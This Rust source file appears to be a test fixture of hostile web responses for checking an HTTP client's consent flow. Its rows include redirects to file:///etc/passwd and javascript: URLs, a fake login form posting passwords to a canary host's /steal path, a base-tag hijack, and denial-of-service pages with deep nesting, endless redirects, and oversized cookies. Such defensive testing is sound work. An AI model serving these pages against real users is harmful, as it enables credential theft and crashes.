//! Pages of an agency's visit that lead astray.

use super::{
    kit::Row,
    stage::{At, Play, Stream, answer, say},
};

const fn row(name: &'static str, play: Play) -> Row {
    // Without an agreement nothing is known of the delivery.
    Row { name, at: At::Page, play, code: 3 }
}

fn html(stream: &mut dyn Stream, body: &str) -> std::io::Result<()> {
    say(stream, &answer("200 OK", "Content-Type: text/html\r\n", body.as_bytes()))
}

fn redirect(stream: &mut dyn Stream, to: &str) -> std::io::Result<()> {
    say(stream, &answer("302 Found", &format!("Location: {to}\r\n"), b""))
}

pub(super) const ROWS: &[Row] = &[
    row("a page that leads to itself for ever", |stream, scene| {
        redirect(stream, &format!("http://{}/connect?signature=1", scene.address))
    }),
    row("a page that leads to another host", |stream, scene| redirect(stream, &format!("http://{}/", scene.canary))),
    row("a page that leads to a file", |stream, _| redirect(stream, "file:///etc/passwd")),
    row("a page that leads to a script", |stream, _| redirect(stream, "javascript:alert(1)")),
    row("a page that refreshes itself for ever", |stream, scene| {
        let to = format!("http://{}/connect?signature=2", scene.address);
        html(stream, &format!("<meta http-equiv=refresh content=\"0;url={to}\">"))
    }),
    row("a form that sends what it gets to another host", |stream, scene| {
        html(
            stream,
            &format!(
                "<form method=post action=\"http://{}/steal\"><input type=password name=p><button>Log in</button></form>",
                scene.canary
            ),
        )
    }),
    row("a base at another host", |stream, scene| {
        html(
            stream,
            &format!(
                "<base href=\"http://{}/\"><form method=post action=agree><button>Allow</button></form>",
                scene.canary
            ),
        )
    }),
    row("elements nested 100,000 deep", |stream, _| html(stream, &"<div>".repeat(100_000))),
    row("forms nested 10,000 deep", |stream, _| html(stream, &"<form><table><tr><td>".repeat(10_000))),
    row("a form of 100,000 fields", |stream, _| {
        html(
            stream,
            &format!("<form method=post action=/agree>{}<button>Allow</button>", "<input name=a>".repeat(60_000)),
        )
    }),
    row("a page of another character set and a million entities", |stream, _| {
        say(
            stream,
            &answer(
                "200 OK",
                "Content-Type: text/html; charset=utf-7\r\n",
                "&NotEqualTilde;".repeat(60_000).as_bytes(),
            ),
        )
    }),
    row("more cookies than any browser keeps", |stream, _| {
        let cookies: Vec<String> =
            (0..90).map(|number| format!("Set-Cookie: c{number}={}\r\n", "v".repeat(3000))).collect();
        say(stream, &answer("200 OK", &cookies.concat(), b"<p>Nothing to do."))
    }),
    row("a page that never comes", |stream, _| std::io::copy(stream, &mut std::io::sink()).map(|_| ())),
    row("a page that asks for more for ever", |stream, scene| {
        html(
            stream,
            &format!(
                "<form method=get action=\"http://{}/connect\"><input type=hidden name=signature value=1><button>Continue</button></form>",
                scene.address
            ),
        )
    }),
    Row {
        at: At::Agreement,
        ..row("an agreement that breaks", |stream, _| say(stream, &answer("500 Internal Server Error", "", b"oops")))
    },
];
